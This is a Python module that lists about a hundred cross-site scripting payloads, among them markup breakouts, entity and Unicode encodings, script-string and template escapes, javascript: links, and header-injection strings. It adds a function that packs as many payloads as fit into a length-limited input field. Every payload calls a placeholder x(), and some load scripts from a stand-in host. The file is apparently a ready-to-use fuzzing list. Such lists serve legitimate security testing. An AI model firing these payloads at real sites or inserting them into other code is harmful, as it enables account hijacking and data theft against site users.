"""A hundred ways to get a script into a page. Each calls `x()` where it works.

Short ones first, for fields of forty letters; those that swallow whatever follows them come last.
"""

from __future__ import annotations

# Markup: as text of an element, out of an attribute, out of a title, a textarea, a comment, a script.
MARKUP = [
    "<script>x()</script>",
    "<svg onload=x()>",
    "<img src=q onerror=x()>",
    '"><svg onload=x()>',
    "'><svg onload=x()>",
    '" onfocus=x() autofocus="',
    "' onfocus=x() autofocus='",
    '" onmouseover=x() y="',
    "<body onload=x()>",
    "<iframe src=javascript:x()>",
    "<a href=javascript:x()>q</a>",
    "<details open ontoggle=x()>",
    "<video><source onerror=x()>",
    "<audio src=q onerror=x()>",
    "<input autofocus onfocus=x()>",
    "<select autofocus onfocus=x()>",
    "<button autofocus onfocus=x()>",
    "<object data=javascript:x()>",
    "<embed src=javascript:x()>",
    "<math href=javascript:x()>q",
    "<base href=//q.example/>",
    "<link rel=stylesheet href=//q/>",
    "<style>@import'//q'</style>",
    "</title><svg onload=x()>",
    "</textarea><svg onload=x()>",
    "</script><svg onload=x()>",
    "</style><svg onload=x()>",
    "--><svg onload=x()>",
    "]]><svg onload=x()>",
    "</select><svg onload=x()>",
    "</option></select><svg onload=x()>",
    "</svg><svg onload=x()>",
    "<svg><script>x()</script></svg>",
    "<svg/onload=x()//",
    "<svg\nonload=x()>",
    "<svg\tonload=x()>",
    "<SvG oNlOaD=x()>",
    "<ScRiPt>x()</sCrIpT>",
    "<scr<script>ipt>x()</scr</script>ipt>",
    "<<script>x()//<</script>",
    "<script src=data:,x()></script>",
    "<script src=//q.example/q.js></script>",
    "<script type=module>x()</script>",
    "<img src=q:q onerror=x()//",
    "<img src onerror=x()>",
    "<img/src=q/onerror=x()>",
    "<img srcset=q onerror=x()>",
    "<image src=q onerror=x()>",
    "<marquee onstart=x()>q</marquee>",
    "<p style=animation:q onanimationstart=x()>",
    "<style>@keyframes q{}</style><b style=animation-name:q onanimationend=x()>",
    "<form action=javascript:x()><input type=submit>",
    "<form><button formaction=javascript:x()>q",
    "<isindex action=javascript:x() type=image>",
    "<iframe srcdoc='<script>parent.x()</script>'>",
    "<iframe srcdoc=&lt;script&gt;parent.x()&lt;/script&gt;>",
    "<meta http-equiv=refresh content=0;url=javascript:x()>",
    "<template><svg onload=x()></template>",
    "<svg><animate onbegin=x() attributeName=q dur=1s>",
    "<svg><set attributeName=onmouseover to=x()>",
    "<svg><a xlink:href=javascript:x()><text y=9>q",
    "<svg><foreignObject><img src=q onerror=x()>",
    "<svg><use href=data:image/svg+xml,q#q>",
    "<math><mtext><table><mglyph><style><img src=q onerror=x()>",
    "<noscript><p title='</noscript><img src=q onerror=x()>'>",
    "<xss contenteditable onfocus=x() autofocus tabindex=1>",
    "<dialog open oncancel=x()>",
    "<track default src=q onerror=x()>",
    "<bgsound src=javascript:x()>",
    "<applet code=javascript:x()>",
    "<table background=javascript:x()>",
    "<div style=background:url(javascript:x())>",
    "<label for=q onclick=x()>q",
    "<slot onslotchange=x()>",
]
# What an encoding may undo: entities, percent, Unicode, bytes of other alphabets.
ENCODED = [
    "&lt;script&gt;x()&lt;/script&gt;",
    "&#60;svg onload=x()&#62;",
    "&#x3c;svg onload=x()&#x3e;",
    "&amp;lt;svg onload=x()&amp;gt;",
    "%3Csvg%20onload%3Dx()%3E",
    "%253Csvg onload=x()%253E",
    "\\u003csvg onload=x()\\u003e",
    "\\x3csvg onload=x()\\x3e",
    "\uff1csvg onload=x()\uff1e",
    "\u02bax()\u02ba \u2039svg onload=x()\u203a",
    "+ADw-script+AD4-x()+ADw-/script+AD4-",
]
# Out of a string of a script, of JSON, of a template, of an address.
STRINGS = [
    "';x();'",
    '";x();"',
    "\\';x();//",
    "`${x()}`",
    "${x()}",
    "{{x()}}",
    "{{''.__class__.__mro__}}",
    "{% for q in [] %}",
    "\u2028x()\u2029",
    '"},"x":{"@type":"</script><svg onload=x()>',
    "javascript:x()",
    "JaVaScRiPt:x()",
    "java\tscript:x()",
    "data:text/html,<script>x()</script>",
    "vbscript:x()",
    "//q.example/%2e%2e",
    "[q](javascript:x())",
    "[q](JAVASCRIPT&colon;x())",
    "[q](data:text/html;base64,PHN2ZyBvbmxvYWQ9eCgpPg)",
    "![q](q 'onerror=x()')",
    "<javascript:x()>",
    "[q]: javascript:x()\n[q]",
    "q\r\nX-Q:x()\r\nBEGIN:VALARM",
    "q\nBcc: q@q.example\n\n<svg onload=x()>",
    "q]]>\x1b[2Jq",
]
SWALLOWING = [
    "<textarea>",
    "<title>",
    "<plaintext>",
    "<xmp>",
    "<noembed>",
    "<!--",
    "<script>/*",
    '<a href="',
]
PAYLOADS = [*MARKUP, *ENCODED, *STRINGS, *SWALLOWING]
# In addresses that people give: these alone are a link's whole target.
TARGETS = [one for one in STRINGS if one.lower().startswith(("java", "data:", "vbscript:"))]


def fitting(room: int, start: int) -> tuple[str, int]:
    """As many payloads as fit in a field, from this one on round the list, and how many they are.

    None may be cut in the middle; one that is longer than the whole field is passed over.
    """
    chosen: list[str] = []
    left = room
    for step in range(len(PAYLOADS)):
        one = PAYLOADS[(start + step) % len(PAYLOADS)]
        if one in SWALLOWING and len(chosen) > 1:
            continue  # it would hide those beside it; alone in short fields
        if len(one) + 1 > left:
            if chosen:
                break
            continue
        chosen.append(one)
        left -= len(one) + 1
    return " ".join(chosen), len(chosen)
